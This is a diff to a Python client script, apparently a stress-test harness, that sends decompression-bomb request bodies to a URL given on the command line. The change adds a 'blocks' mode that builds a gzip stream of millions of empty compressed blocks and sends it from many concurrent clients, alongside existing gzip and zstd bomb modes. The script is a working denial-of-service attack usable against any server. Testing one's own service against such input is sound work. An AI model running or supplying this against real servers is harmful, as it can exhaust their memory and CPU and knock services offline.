@@ -4,6 +4,7 @@ client.py send URL       a batch of likes in every way of compressing, each of a
 client.py bomb URL N     N clients at once that send a body of gigabytes, gzip and zstd in turn; prints what was answered and after
                          how many bytes
 client.py parts URL N    the same of a body of eight megabytes in which each byte is a member or a frame of its own
+client.py blocks URL N   the same of one of gzip's blocks in which nothing is
 """
 
 import gzip
@@ -77,7 +78,15 @@ def parts(url, clients):
     attack(url, clients, [("gzip", gzip.compress(b" ") * 380_000), ("zstd", zstandard.compress(b" ") * 800_000)], 1)
 
 
-def attack(url, clients, bodies, times):
+def blocks(url, clients):
+    # four blocks of ten bits: not the last, the fixed code, its end
+    bits = "0100000000" * 4
+    four = bytes(int(bits[at : at + 8][::-1], 2) for at in range(0, len(bits), 8))
+    body = gzip.compress(b"")[:10] + four * 1_600_000
+    attack(url, clients, [("gzip", body)] * 2, 1, 1 << 18)
+
+
+def attack(url, clients, bodies, times, size=4096):
     host, port = urlsplit(url).netloc.split(":")
     told = []
 
@@ -88,7 +97,7 @@ def attack(url, clients, bodies, times):
         head = f"POST /api/v6/events HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-encoding: {coding}\r\n"
         connection.sendall(f"{head}transfer-encoding: chunked\r\n\r\n".encode())
         sent, answer = 0, b""
-        pieces = (once[at : at + 4096] for _ in range(times) for at in range(0, len(once), 4096))
+        pieces = (once[at : at + size] for _ in range(times) for at in range(0, len(once), size))
         for piece in pieces:
             connection.settimeout(60)
             connection.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
@@ -102,6 +111,7 @@ def attack(url, clients, bodies, times):
         else:
             # zstd's ten gigabytes are so few bytes that all of them may be under way before the answer is
             connection.settimeout(60)
+            connection.sendall(b"0\r\n\r\n")
             answer = connection.recv(1000)
         told.append({"coding": coding, "answer": answer.decode().split("\r\n")[0], "sent": sent})
 
@@ -114,4 +124,4 @@ def attack(url, clients, bodies, times):
         print(json.dumps(answer))
 
 
-{"send": send, "bomb": bomb, "parts": parts}[sys.argv[1]](*sys.argv[2:])
+{"send": send, "bomb": bomb, "parts": parts, "blocks": blocks}[sys.argv[1]](*sys.argv[2:])
